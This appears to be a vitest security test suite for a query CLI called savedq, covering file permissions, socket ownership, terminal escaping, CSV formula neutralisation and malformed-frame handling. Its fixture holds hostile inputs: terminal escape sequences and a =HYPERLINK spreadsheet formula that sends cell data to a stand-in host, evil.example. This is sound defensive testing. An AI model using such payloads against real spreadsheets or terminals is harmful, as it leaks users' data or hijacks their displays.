import { spawnSync } from 'node:child_process';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { connect, createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { binPath, cli, engineQueue, eventually, NO_CONFIG, startServe, tempDir } from './helpers.js';

// What savedq does when its neighbours are careless or hostile: files only its user can read, a socket
// that trusts no one, terminals and spreadsheets that a log line cannot take over.
const dir = tempDir();
const queries = join(dir, 'queries');
mkdirSync(queries);
// A row whose message was written by whoever sent the logged request.
writeFileSync(
  join(queries, 'hostile.sql'),
  "SELECT 'retitle \\x1b]0;owned\\x07 clear \\x1b[2J tab\\tnewline\\nDEL\\x7f C1\\xc2\\x9b' AS message, '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' AS formula, -5 AS n, '@SUM(1)' AS at\n",
);
const env = { SAVEDQ_DATA_DIR: join(dir, 'data'), SAVEDQ_CACHE_FILE: join(dir, 'cache', 'results.sqlite'), SAVEDQ_QUERIES: queries };
const mode = (path: string) => statSync(path).mode & 0o777;

describe('files stay with their owner', () => {
  it('makes the data directory and the cache file’s folder 0700, the cache file and its -wal and -shm 0600, whatever the umask', async () => {
    // The CLI as a shell with umask 022 starts it.
    const r = spawnSync('sh', ['-c', `umask 022; exec "${process.execPath}" "${binPath}" run hostile -f json`], {
      env: { PATH: process.env.PATH ?? '', XDG_CONFIG_HOME: NO_CONFIG, ...env },
      encoding: 'utf8',
    });
    expect(r.status, r.stderr).toBe(0);
    expect(mode(env.SAVEDQ_DATA_DIR)).toBe(0o700);
    expect(mode(join(dir, 'cache'))).toBe(0o700);
    expect(mode(env.SAVEDQ_CACHE_FILE)).toBe(0o600);
    for (const suffix of ['-wal', '-shm']) {
      const file = `${env.SAVEDQ_CACHE_FILE}${suffix}`;
      if (statSync(file, { throwIfNoEntry: false })) expect(mode(file), suffix).toBe(0o600);
    }
  });

  it('narrows a data directory of its own that others may read; refuses one others may write to, naming the fix', async () => {
    const wide = join(dir, 'wide');
    mkdirSync(wide);
    chmodSync(wide, 0o755);
    expect((await cli(['run', 'hostile'], { env: { ...env, SAVEDQ_DATA_DIR: wide } })).code).toBe(0);
    expect(mode(wide)).toBe(0o700);
    const open = join(dir, 'open');
    mkdirSync(open);
    chmodSync(open, 0o777);
    const refused = await cli(['run', 'hostile'], { env: { ...env, SAVEDQ_DATA_DIR: open } });
    expect(refused).toMatchObject({ code: 2, stdout: '', stderr: `savedq: refusing data directory ${open}: other users can write to it; run chmod 700 ${open}.\n` });
  });

  it('does not use a cache file others may write to: one warning naming it and the fix, and the answer', async () => {
    const file = join(dir, 'cache', 'open.sqlite');
    writeFileSync(file, '');
    chmodSync(file, 0o666);
    const r = await cli(['run', 'hostile', '-f', 'json'], { env: { ...env, SAVEDQ_CACHE_FILE: file } });
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toHaveLength(1);
    expect(r.stderr).toBe(`warning: results cache ${file} is not usable (other users can write to ${file}; run chmod 600 ${file}); answering without it.\n`);
  });
});

describe('terminals and spreadsheets', () => {
  it('shows control characters as escapes in a table and in records, never raw', async () => {
    for (const args of [['-f', 'table'], ['-f', 'table', '--expanded']]) {
      const r = await cli([...args.slice(2), 'run', 'hostile', ...args.slice(0, 2)], { env: { ...env, COLUMNS: '200' } });
      expect(r.code, r.stderr).toBe(0);
      // eslint-disable-next-line no-control-regex
      expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      expect(r.stdout).toContain('retitle \\x1b]0;owned\\x07 clear \\x1b[2J tab\\tnewline\\nDEL\\x7f C1\\x9b');
    }
  });

  it('writes a CSV cell a spreadsheet would run with a leading quote, numbers as they are; --csv-raw writes text as it is; JSON unchanged', async () => {
    const csv = await cli(['run', 'hostile', '-f', 'csv'], { env });
    expect(csv.stdout.split('\r\n')[1]).toMatch(/,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",-5,'@SUM\(1\)$/);
    const raw = await cli(['--csv-raw', 'run', 'hostile', '-f', 'csv'], { env });
    expect(raw.stdout.split('\r\n')[1]).toMatch(/,"=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",-5,@SUM\(1\)$/);
    const json = JSON.parse((await cli(['run', 'hostile', '-f', 'json'], { env })).stdout) as Record<string, unknown>[];
    expect(json[0]?.message).toBe('retitle \u001b]0;owned\u0007 clear \u001b[2J tab\tnewline\nDEL\u007f C1\u009b');
    expect(json[0]?.formula).toBe('=HYPERLINK("http://evil.example/?x="&A1,"click")');
  });
});

describe('the socket trusts no one', () => {
  /** A private folder that the unprivileged user "nobody" may enter, for a socket of its own. */
  const open = mkdtempSync(join(tmpdir(), 'savedq-socket-'));
  chmodSync(open, 0o755);
  afterAll(() => rmSync(open, { recursive: true, force: true }));
  const isRoot = process.getuid?.() === 0;

  it.runIf(isRoot)('refuses a socket in the data directory that another user owns (exit 2, naming it), and sends it nothing', async () => {
    const data = join(open, 'data');
    mkdirSync(data, { mode: 0o700 });
    const socket = join(data, 'savedq.sock');
    const received: Buffer[] = [];
    const listener = createServer((s) => s.on('data', (d: Buffer) => received.push(d)));
    await new Promise<void>((resolve) => listener.listen(socket, resolve));
    chownSync(socket, 65534, 65534);
    try {
      const r = await cli(['run', 'hostile', '--no-cache'], { env: { ...env, SAVEDQ_DATA_DIR: data } });
      expect(r.code).toBe(2);
      expect(r.stderr).toBe(`savedq: the socket ${socket} belongs to another user (uid 65534); savedq sends nothing there. Remove it, or use a data directory of your own.\n`);
      expect(received).toEqual([]);
    } finally {
      listener.close();
    }
  });

  it('a listener that never answers: the run fails after its --timeout, not never', async () => {
    const data = join(dir, 'silent');
    mkdirSync(data, { mode: 0o700 });
    const socket = join(data, 'savedq.sock');
    const listener = createServer(() => undefined);
    await new Promise<void>((resolve) => listener.listen(socket, resolve));
    try {
      const started = Date.now();
      const r = await cli(['--timeout', '1', 'run', 'hostile', '--no-cache'], { env: { ...env, SAVEDQ_DATA_DIR: data } });
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/stopped answering \(it did not answer in time\); run the command again\.\n$/);
      expect(Date.now() - started).toBeLessThan(60_000); // it used to wait for good
    } finally {
      listener.close();
    }
  });

  it('serve survives any frame: each bad one closes its connection with one log line, and the others are answered', async () => {
    const data = join(dir, 'served');
    const server = await startServe({ ...env, SAVEDQ_DATA_DIR: data, SAVEDQ_API_KEYS: 'k' });
    const socket = join(data, 'savedq.sock');
    const frame = (header: string | Buffer, bodyLength = 0): Buffer => {
      const json = Buffer.isBuffer(header) ? header : Buffer.from(header);
      const prefix = Buffer.alloc(8);
      prefix.writeUInt32BE(json.length, 0);
      prefix.writeUInt32BE(bodyLength, 4);
      return Buffer.concat([prefix, json]);
    };
    /** Sends bytes on a connection of their own; resolves with what came back once serve closed it. */
    const send = async (bytes: Buffer, end = false): Promise<string> => {
      const s: Socket = connect(socket);
      let back = '';
      s.on('data', (d: Buffer) => (back += d.subarray(8).toString('utf8')));
      await new Promise<void>((resolve) => s.once('connect', () => resolve()));
      s.write(bytes);
      if (end) s.end();
      await new Promise<void>((resolve) => s.once('close', () => resolve()));
      return back;
    };
    const cases: [string, Buffer, RegExp][] = [
      ['not JSON', frame('{"op": query'), /a frame's header that is not JSON/],
      ['not an object', frame('[1, 2]'), /a frame whose header is not an object/],
      ['an unknown operation', frame('{"id": 7, "op": "format-disk"}'), /an unknown operation "format-disk"/],
      ['a missing statement', frame('{"id": 8, "op": "query"}'), /a query request without its statement/],
      ['an id of the wrong type', frame('{"id": "x", "op": "query", "statement": {"sql": "SELECT 1"}}'), /a request without a whole-number id/],
      ['a header claiming 4 GiB', Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]), /a frame's header of 4294967295 bytes/],
      ['a body claiming 4 GiB', Buffer.from([0, 0, 0, 2, 0xff, 0xff, 0xff, 0xff]), /a frame's body of 4294967295 bytes/],
    ];
    for (const [what, bytes, logged] of cases) {
      const back = await send(bytes);
      await server.waitFor(logged);
      // An error for the id when it could be read, and the connection closed.
      if (/"id": [78]/.test(bytes.toString())) expect(back, what).toMatch(/savedq serve cannot take this request/);
    }
    // Half a frame, then the peer goes: nothing to answer, nothing broken.
    await send(frame('{"id": 9, "op": "query", "statement": {"sql": "SELECT 1"}}').subarray(0, 12), true);
    expect(server.child.exitCode).toBeNull();
    // The others are answered: a CLI through the socket, and HTTP.
    const r = await cli(['run', 'hostile', '--no-cache', '-f', 'json'], { env: { ...env, SAVEDQ_DATA_DIR: data } });
    expect(r.code, r.stderr).toBe(0);
    expect((await fetch(`${server.url}/api/endpoints/query/hostile`, { headers: { 'X-API-KEY': 'k' } })).status).toBe(200);
    expect(await engineQueue(server.url)).toMatchObject({ running: 0, waiting: 0 });
    expect(server.stderr()).not.toMatch(/at .*\.js:\d+/); // no stack trace
    await eventually('serve to still run', () => server.child.exitCode === null);
  });
});
